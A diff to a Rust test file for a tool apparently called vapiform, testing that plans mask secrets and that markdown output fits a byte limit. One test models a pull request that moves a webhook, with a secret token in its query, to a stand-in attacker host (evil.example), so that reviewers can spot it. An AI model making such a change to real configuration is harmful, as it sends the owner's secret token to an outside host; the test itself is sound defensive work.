@@ -123,10 +123,28 @@ fn a_missing_env_variable_is_an_error_at_plan_time_naming_the_assistant() {
 }
 
 #[test]
-fn env_values_never_appear_in_plans_and_changes_show_as_sensitive() {
+fn env_fields_show_their_template_and_secrets_show_no_value() {
     let secret = "s3cr3t-hook-value-91c2";
     let workspace = Workspace::quickstart();
     workspace.add_hook_token();
+    let file = workspace.read("vapiform.yaml").replace(
+        "url: \"https://hooks.example.com\"",
+        "url: \"https://hooks.example.com/x?t=${env.HOOK_TOKEN}\"",
+    );
+    workspace.write("vapiform.yaml", &file);
+    workspace
+        .sandbox()
+        .env("HOOK_TOKEN", secret)
+        .args(["apply", "--yes"])
+        .run()
+        .code(0);
+    // A pull request moves the webhook, with the secret in its query, to another host and
+    // changes the header's secret.
+    let file = file.replace(
+        "https://hooks.example.com/x?t=${env.HOOK_TOKEN}",
+        "https://evil.example/x?t=${env.HOOK_TOKEN}",
+    );
+    workspace.write("vapiform.yaml", &file);
     for format in ["text", "markdown", "json"] {
         let run = workspace
             .sandbox()
@@ -134,21 +152,52 @@ fn env_values_never_appear_in_plans_and_changes_show_as_sensitive() {
             .args(["-vvv", "plan", "--out", "plan.json", "--format", format])
             .run()
             .code(0);
+        let shown = &run.stdout;
         assert!(
-            run.stdout.contains("(sensitive) #"),
-            "{format}:\n{}",
-            run.stdout
+            shown.contains("https://evil.example/x?t=${env.HOOK_TOKEN}"),
+            "{format}: the reviewer sees the new host and the variable:\n{shown}"
         );
+        assert!(shown.contains("(sensitive, changed)"), "{format}:\n{shown}");
         assert!(
-            !run.stdout.contains(secret) && !run.stderr.contains(secret),
+            !shown.contains("hooks.example.com/x?t="),
+            "{format}: the live side holds the secret and is not shown:\n{shown}"
+        );
+        assert!(!shown.contains(" #"), "{format}: no hash:\n{shown}");
+        assert!(
+            !shown.contains(secret) && !run.stderr.contains(secret),
             "{format} leaked the secret"
         );
         assert!(!workspace.read("plan.json").contains(secret));
     }
+    let run = workspace
+        .sandbox()
+        .env("HOOK_TOKEN", secret)
+        .args(["plan"])
+        .run()
+        .code(0);
     assert!(
-        workspace.read("plan.json").contains("${env.HOOK_TOKEN}"),
-        "the plan keeps the reference"
+        run.stdout.contains(
+            "    - server.url: (sensitive, changed)\n    + server.url: \"https://evil.example/x?t=${env.HOOK_TOKEN}\"\n"
+        ),
+        "{}",
+        run.stdout
     );
+    // The other assistants are created: their header is shown with no change to express.
+    let run = Workspace::quickstart();
+    run.add_hook_token();
+    let run = run
+        .sandbox()
+        .env("HOOK_TOKEN", "abc")
+        .args(["plan"])
+        .run()
+        .code(0);
+    assert!(
+        run.stdout
+            .contains("    + server.headers.x-token: (sensitive)\n"),
+        "{}",
+        run.stdout
+    );
+    assert!(!run.stdout.contains("\"abc\""), "{}", run.stdout);
 }
 
 /// An account of `n` telnyx numbers, unrouted or all routed to one legacy assistant, and a
@@ -267,7 +316,7 @@ fn markdown_fits_the_byte_limit_and_says_what_it_left_out() {
     let workspace = Workspace::new();
     workspace.write("vapiform.yaml", &file);
     workspace.write("account.json", &serde_json::to_string(&account).unwrap());
-    for max in [60_000usize, 8_000, 300] {
+    for max in [60_000usize, 8_000, 700] {
         let run = workspace
             .sandbox()
             .args([
@@ -294,7 +343,7 @@ fn markdown_fits_the_byte_limit_and_says_what_it_left_out() {
                 run.stdout
             );
             // Routing rows are kept before the others.
-            assert!(run.stdout.contains("| + | `number/"), "{}", run.stdout);
+            assert!(run.stdout.contains("| + | <code>number/"), "{}", run.stdout);
         }
     }
 }
@@ -323,4 +372,90 @@ async fn a_rejected_key_says_so_plainly() {
     );
     assert!(!run.stderr.contains(KEY));
     running.shutdown().await;
+}
+
+/// The `N` of "use --max-bytes N or more" in a budget error.
+fn minimum(stderr: &str) -> usize {
+    let (_, rest) = stderr
+        .split_once("use --max-bytes ")
+        .unwrap_or_else(|| panic!("no minimum named: {stderr}"));
+    rest.split_whitespace()
+        .next()
+        .and_then(|n| n.parse().ok())
+        .unwrap_or_else(|| panic!("no minimum named: {stderr}"))
+}
+
+#[test]
+fn a_markdown_budget_below_the_summary_is_an_error_and_output_ends_with_a_whole_line() {
+    let (account, file) = many_businesses(40, false);
+    let workspace = Workspace::new();
+    workspace.write("vapiform.yaml", &file);
+    workspace.write("account.json", &serde_json::to_string(&account).unwrap());
+    let plan = |max: usize| {
+        workspace
+            .sandbox()
+            .args([
+                "plan",
+                "--allow-mass-change",
+                "--format",
+                "markdown",
+                "--out",
+                "plan.json",
+            ])
+            .args(["--max-bytes", &max.to_string()])
+            .run()
+    };
+    let run = plan(0).code(1);
+    assert!(run.stdout.is_empty(), "{}", run.stdout);
+    assert!(
+        run.stderr
+            .contains("--max-bytes 0 is too small for this plan"),
+        "{}",
+        run.stderr
+    );
+    let least = minimum(&run.stderr);
+    let full = plan(1_000_000).code(0).stdout.len();
+    assert!(least < full, "{least} {full}");
+    plan(least - 1).code(1);
+    for max in [
+        least,
+        least + 1,
+        least + 97,
+        least + 1000,
+        full / 2,
+        full - 1,
+        full,
+    ] {
+        let run = plan(max).code(0);
+        let out = &run.stdout;
+        assert!(out.len() <= max, "{} > {max}", out.len());
+        assert!(
+            out.starts_with("### vapiform: Plan: 40 to create, 40 to assign.\n"),
+            "{out}"
+        );
+        let ending = if max < full {
+            "(`vapiform plan --out`)._\n"
+        } else {
+            "</details>\n"
+        };
+        assert!(out.ends_with(ending), "{max}: ends mid-line:\n{out}");
+        // `show` renders the saved plan within the same budget.
+        let shown = workspace
+            .vapiform()
+            .args(["show", "plan.json", "--format", "markdown"])
+            .args(["--max-bytes", &max.to_string()])
+            .run()
+            .code(0);
+        assert_eq!(&shown.stdout, out);
+    }
+
+    // A plan with no changes is its summary line alone.
+    let workspace = Workspace::new();
+    workspace.write("vapiform.yaml", "version: 1\n");
+    let run = workspace
+        .sandbox()
+        .args(["plan", "--format", "markdown", "--max-bytes", "10"])
+        .run()
+        .code(1);
+    assert_eq!(minimum(&run.stderr), "### vapiform: No changes.\n".len());
 }
